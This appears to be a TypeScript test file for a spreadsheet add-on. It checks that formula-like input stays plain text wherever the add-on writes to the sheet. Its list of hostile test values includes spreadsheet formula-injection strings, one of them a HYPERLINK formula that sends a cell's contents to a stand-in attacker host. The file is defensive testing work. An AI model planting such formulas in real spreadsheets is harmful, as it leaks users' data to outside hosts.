// Text that looks like a formula, through everything in the add-on that writes to the sheet: it stays
// text, to the letter.
import type { Host } from '../../../host/node';
import type {
  Failure,
  FieldChange,
  FormField,
  RowDetails,
  Saved,
  SelectionAnswer,
  SettingField,
} from '../../../src/rpc';
import { ask, choose, openBook, type Rows } from '../../actions/support/add-on-host';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1)',
  '+49 30 901820',
  '-2+3',
  '@SUM(A1:A9)',
  "'quoted",
  '0012',
  '1/2',
] as const;

const day = (text: string): Date => new Date(`${text}T00:00:00Z`);
const HEADERS = [
  ...['Account', 'Partner', 'Overlap', 'Warmth', 'Last touch', 'Fit', 'Motion', 'Owner'],
  ...['Partner contact', 'Note', 'Confirmed by', 'Stage', 'Stage changed on', 'Qualified date'],
];

/** Each hostile text is an account, a partner, an owner, a contact, a note and a stage. */
const OVERLAPS: Rows = [
  HEADERS,
  ...HOSTILE.map((text, index) => [
    ...[text, text, 'Customer', 'Warm', day('2026-06-10'), 'A'],
    ...[index % 2 === 0 ? 'Co-sell' : '', text, text, text, '', text],
    ...[day('2026-06-01'), day('2026-01-15')],
  ]),
];
const LEADS: Rows = [
  ['Account', 'Lead type', 'Qualified date', 'Converted date', 'Stage'],
  ...HOSTILE.map((text) => [text, text, day('2026-01-10'), day('2026-02-10'), text]),
];

const open = (): Host => openBook({ sheets: { Overlaps: OVERLAPS, Leads: LEADS } });

/** All formulas of the spreadsheet, wherever they stand. */
const formulas = (host: Host): readonly string[] =>
  ask(
    host,
    `[].concat.apply([], ss.getSheets().map(function (sheet) {
      return [].concat.apply([], sheet.getDataRange().getFormulas());
    })).filter(function (formula) { return formula !== ''; })`,
  );
const shownIn = (host: Host, tab: string): readonly string[] => host.sheet(tab).shown.flat();

test('The jobs of the menu write what a list brings as the text that it is', () => {
  const host = open();
  for (const item of [
    'Score this sheet',
    'Open settings',
    'Write partner feedback',
    'Build summary',
  ]) {
    host.select('Overlaps', 'A1');
    expect(choose(host, item)).not.toBe('');
  }
  expect(formulas(host)).toEqual([]);
  for (const tab of ['Partner Feedback', 'EQL Summary']) {
    const shown = shownIn(host, tab);
    expect([tab, HOSTILE.filter((name) => !shown.includes(name))]).toEqual([tab, []]);
  }
});

describe('the sidebar', () => {
  /** One text after the other is written to the same workbook, whose list is scored. */
  let host: Host;
  beforeAll(() => {
    host = open();
    choose(host, 'Score this sheet');
  });
  const call = <Answer>(name: string, request: object): Answer => host.run(name, request) as Answer;
  const opened = (): RowDetails => {
    host.select('Overlaps', 'A2');
    const answer = call<SelectionAnswer>('selection', { known: null });
    if (!answer.ok || !answer.changed || answer.selected.kind !== 'row') {
      throw new Error(JSON.stringify(answer));
    }
    return answer.selected.details;
  };
  const save = (value: string, addColumns: readonly FormField[]): Saved | Failure => {
    const row = opened();
    const changes = (['partnerContact', 'note', 'owner', ...addColumns] as const).map(
      (field): FieldChange => ({
        field,
        shown: row.form.find((cell) => cell.field === field)?.shown ?? { kind: 'blank', value: '' },
        value,
      }),
    );
    const rest = { addColumns, confirmedBy: value, next: null, cursor: null };
    return call('saveRow', { key: row.key, changes, ...rest });
  };

  test.each(
    HOSTILE,
  )('saves %s as it was typed, where it was typed and who confirmed it', (text) => {
    expect(save(text, ['nextStep'])).toMatchObject({ ok: true });
    expect(formulas(host)).toEqual([]);
    const [headers = [], row = []] = host.sheet('Overlaps').values;
    const typed = ['Owner', 'Partner contact', 'Note', 'Confirmed by', 'Next step'].map((header) =>
      String(row[headers.indexOf(header)]),
    );
    expect(typed).toEqual(typed.map(() => text));
  });

  test.each(HOSTILE)('ticks off a partner called %s', (partner) => {
    const request = { marks: [{ partner, toldOn: '2026-06-28', shown: null }] };
    expect(call('markTold', request)).toMatchObject({ ok: true });
    expect(formulas(host)).toEqual([]);
  });

  test.each(HOSTILE)('keeps %s as a setting, as it was typed', (text) => {
    const fields = call<{ fields: readonly SettingField[] }>('settings', {}).fields;
    const setting = fields.find(({ label }) => label === 'Partners left out');
    const changes = [{ label: setting?.label, shown: setting?.value, value: text }];
    expect(call('saveSettings', { changes })).toMatchObject({ ok: true });
    expect(formulas(host)).toEqual([]);
    expect(shownIn(host, 'EQL Settings')).toContain(text);
  });
});
